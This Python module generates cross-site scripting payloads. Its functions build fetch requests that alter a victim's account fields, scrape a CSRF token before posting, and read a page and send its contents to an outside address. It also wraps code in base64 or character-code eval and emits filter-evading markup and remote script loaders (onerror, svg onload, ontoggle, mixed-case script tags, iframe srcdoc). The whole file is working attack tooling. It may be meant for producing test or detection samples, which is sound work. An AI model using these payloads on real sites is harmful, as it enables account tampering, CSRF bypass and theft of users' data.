"""Scripts that attackers plant: what they do, how they are wrapped into markup, and how they hide what they name."""
import base64
from html import escape


def post(path, fields):
    """Alters fields of whoever reads the page."""
    pairs = "&".join(f"{name}={value}" for name, value in fields.items())
    return f"fetch('{path}',{{method:'POST',body:new URLSearchParams('{pairs}')}})"


def post_with_token(page, path, fields, token):
    """The same where a form holds a token: reads the form first."""
    pairs = ",".join(f"{name}:'{value}'" for name, value in fields.items())
    find = f"new DOMParser().parseFromString(h,'text/html').querySelector('[name={token}]').value"
    return f"fetch('{page}').then(r=>r.text()).then(h=>fetch('{path}',{{method:'POST',body:new URLSearchParams({{{pairs},{token}:{find}}})}}))"


def get(path):
    return f"new Image().src='{path}'"


def steal(path, to):
    """Reads a page in silence and sends it away."""
    return f"fetch('{path}').then(r=>r.text()).then(t=>fetch('{to}/c',{{method:'POST',mode:'no-cors',body:t.slice(0,800)}}))"


def obfuscated(code, rand):
    packed = base64.b64encode(code.encode()).decode()
    codes = ",".join(str(ord(c)) for c in code)
    return rand.choice([f"eval(atob('{packed}'))", f"Function(atob('{packed}'))()", f"eval(String.fromCharCode({codes}))", f"setTimeout(atob('{packed}'),{rand.randrange(9)})"])


def wrapped(code, rand):
    """Markup that runs the code when the page is read."""
    quoted = escape(code, quote=True)
    return rand.choice([f"<script>{code}</script>", f"<img src=x onerror=\"{quoted}\">", f"<svg/onload=\"{quoted}\">", f"<ScRiPt >{code}</sCrIpT>",
                        f"<details open ontoggle=\"{quoted}\">more</details>", f"<input autofocus onfocus=\"{quoted}\">", f"<iframe srcdoc=\"<script>{quoted}</script>\"></iframe>",
                        f"<img src=x\nonerror\n=\"{quoted}\">"])


def elsewhere(address, rand):
    """Markup that names only where the script is."""
    return rand.choice([f"<script src={address}></script>", f"<script src=\"{address}\" async></script>",
                        f"<img src=x onerror=\"document.head.appendChild(document.createElement('script')).src='{address}'\">",
                        f"<svg onload=\"import('{address}')\">"])
